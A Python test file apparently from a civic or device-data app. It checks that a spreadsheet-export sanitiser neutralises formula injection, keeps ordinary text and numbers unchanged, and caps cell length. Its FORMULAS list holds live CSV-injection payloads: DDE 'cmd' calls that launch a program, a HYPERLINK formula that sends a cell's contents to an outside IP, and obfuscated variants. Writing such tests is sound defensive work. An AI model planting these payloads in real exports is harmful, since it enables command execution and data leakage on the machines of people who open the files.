"""A spreadsheet that opens an export runs nothing of what devices and citizens wrote."""

import csv
import io

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domain.spreadsheet import LONGEST, cell, row

FORMULAS = (
    '=HYPERLINK("http://10.0.0.9/?x="&A1,"abrir")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b\u202e=1+1",
    "\0=1+1",
    "＝1+1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_could_take_for_a_formula_becomes_text(text):
    assert cell(text).startswith("'")


@pytest.mark.parametrize("text", ["VAL-0001", "Av. Juárez 12, esq. 5", "a=b", "3 + 4", "", " ", "水", "🙂"])
def test_common_text_stays_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (-5, "-5"),
        (-0.25, "-0.25"),
        (np.float64(-1.5), "-1.5"),
        (np.float32(-1.5), "-1.5"),
        (np.int64(-7), "-7"),
        (1e-7, "1e-07"),
        (float("nan"), ""),
        (float("-inf"), ""),
        (None, ""),
        (True, "true"),
        (False, "false"),
    ],
)
def test_real_numbers_stay_numbers(value, shown):
    assert cell(value) == shown


def test_a_text_of_ten_megabytes_fits_the_largest_cell_of_a_spreadsheet():
    assert len(cell("=" * 10_000_000)) <= LONGEST
    assert cell("x" * 10_000_000).endswith("…")


@given(st.lists(st.text() | st.sampled_from(FORMULAS) | st.integers() | st.floats() | st.none(), min_size=1))
def test_every_row_can_be_written_read_back_and_holds_no_formula(values):
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(row(values))
    text = out.getvalue().encode("utf-8").decode("utf-8")
    (read,) = csv.reader(io.StringIO(text, newline=""))
    assert len(read) == len(values)
    for given_value, got in zip(values, read, strict=True):
        if isinstance(given_value, str):
            assert not got.startswith(tuple("=+-@\t\r\n"))
